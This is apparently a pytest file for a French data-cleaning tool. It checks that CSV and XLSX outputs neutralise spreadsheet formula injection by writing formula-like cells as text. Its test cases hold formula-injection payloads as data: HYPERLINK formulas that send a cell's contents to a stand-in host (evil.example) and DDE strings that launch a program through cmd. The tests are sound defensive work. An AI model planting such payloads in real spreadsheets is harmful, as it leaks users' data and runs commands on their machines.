"""CSV outputs are safe to open in a spreadsheet: a cell it would run is written as text (OWASP)."""
from __future__ import annotations

import pyarrow as pa
import pytest

from fichier_check.table import SourceFormat
from fichier_check.write.formulas import neutralised, spreadsheet_would_run
from fichier_check.write.output import OutputSet
from fichier_check.write.writers import CsvWriter
from fichier_check.read.csv_source import text_frame


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0", "+33 6 12 34 56 78",
    "+33612345678", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1", "=", "-", "+", "@"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert neutralised(pa.array([cell])).to_pylist() == ["'" + cell]


@pytest.mark.parametrize("cell", ["", "Dupont", "06 12 34 56 78", "-12", "-3,5", "-0.25", "a=b", " =1", "'=1"])
def test_text_and_negative_numbers_are_left_as_they_are(cell):
    assert not spreadsheet_would_run(pa.array([cell])).any()
    assert neutralised(pa.array([cell])).to_pylist() == [cell]


def test_an_array_with_nothing_to_neutralise_is_returned_as_it_is():
    cells = pa.array(["a", "b", "-1"])
    assert neutralised(cells) is cells


def test_a_slice_of_a_larger_array_is_read_at_its_offset():
    cells = pa.array(["=1", "x", "+33 1", "y"]).slice(1)
    assert neutralised(cells).to_pylist() == ["x", "'+33 1", "y"]


@pytest.mark.parametrize("engine", ["polars", "python"])
def test_the_csv_writer_neutralises_header_and_cells_by_default(tmp_path, engine):
    fmt = SourceFormat(kind="csv", encoding="utf-8", delimiter=";", line_terminator="\n")
    frame = text_frame([["=1+1", "Durand"], ["+33 6 12 34 56 78", "-4"]])
    with OutputSet() as outputs:
        writer = CsvWriter(outputs, tmp_path / "out.csv", fmt, ["=cmd", "tel"], engine=engine)
        writer.write(frame)
        outputs.commit()
    assert (tmp_path / "out.csv").read_text() == "'=cmd;tel\n'=1+1;'+33 6 12 34 56 78\nDurand;-4\n"


def test_the_csv_writer_keeps_formulas_when_asked(tmp_path):
    fmt = SourceFormat(kind="csv", encoding="utf-8", delimiter=";", line_terminator="\n")
    with OutputSet() as outputs:
        writer = CsvWriter(outputs, tmp_path / "out.csv", fmt, ["a"], neutralise=False)
        writer.write(text_frame([["=1+1"]]))
        outputs.commit()
    assert (tmp_path / "out.csv").read_text() == "a\n=1+1\n"


def test_a_workbook_output_stores_formula_cells_as_text_never_as_formulas(cli, tmp_path):
    """XLSX outputs need no apostrophe: every cell is written as a string, which Excel never runs."""
    import openpyxl
    formulas = ['=HYPERLINK("http://x.invalid/?d="&A2;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Nom", "Type client", "Commentaire"])
    for name, formula in zip(["Durand", "Martin"], formulas):
        sheet.append([name, "B2B", None])
        cell = sheet.cell(row=sheet.max_row, column=3, value=formula)
        cell.data_type = "s"  # a text cell holding the formula's characters, as a CRM export writes it
    book.save(tmp_path / "f.xlsx")
    run = cli("audit", str(tmp_path / "f.xlsx"), "--channel", "post", "--fail-on", "never")
    assert run.code == 0, run.stderr
    assert {(f["rule"], f["row"]) for f in run.side("f")} >= {("formula-injection", 2), ("formula-injection", 3)}
    cells = [row[2] for row in openpyxl.load_workbook(run.out_dir / "f.clean.xlsx").active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == formulas
    assert [c.data_type for c in cells] == ["s", "s"]
